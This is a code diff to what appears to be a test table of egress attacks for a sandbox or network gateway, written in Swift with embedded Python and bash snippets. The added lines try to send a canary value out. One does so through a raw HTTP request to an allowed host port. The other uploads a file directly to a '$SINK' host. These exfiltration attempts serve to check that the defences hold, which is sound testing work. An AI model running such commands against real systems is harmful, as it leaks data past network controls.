@@ -66,7 +66,7 @@ extension AttackTable {
       closedBy: "host and port are one entry (gateway)", tools: [.python],
       attempts: [
         Attempt(
-          "five ports", tries: 5,
+          "five ports", tries: 6,
           .python(
             #"""
             def send(port):
@@ -75,6 +75,11 @@ extension AttackTable {
                 listen(sock, 0.2)
             for port in (22, 25, 80, 443, 19555):
                 attempt(send, port)
+            def plain(target):
+                sock = proxy()
+                sock.sendall(f"GET http://{target}/{CANARY} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+                listen(sock, 0.5)
+            attempt(plain, f"{E['ALLOWED_HOST']}:19555")
             """#))
       ]),
     Attack(
@@ -327,7 +332,7 @@ extension AttackTable {
       tools: [.curl, .wget],
       attempts: [
         Attempt(
-          "form, PUT and POST", tries: 5,
+          "form, PUT and POST", tries: 6,
           .bash(
             #"""
             file=$(mktemp) && printf 'id,value\n1,%s\n' "$CANARY" > "$file"
@@ -335,6 +340,7 @@ extension AttackTable {
             proxied -T "$file" "https://$ZONE/data.csv"
             proxied -T "$file" "http://$ZONE/data.csv"
             proxied --data-urlencode "data@$file" "http://$ZONE/paste"
+            direct -T "$file" "http://$SINK/data.csv"
             http_proxy="$PROXY" try wget -q -t1 -T3 -O /dev/null --post-file="$file" "http://$ZONE/upload"
             rm -f "$file"
             """#))
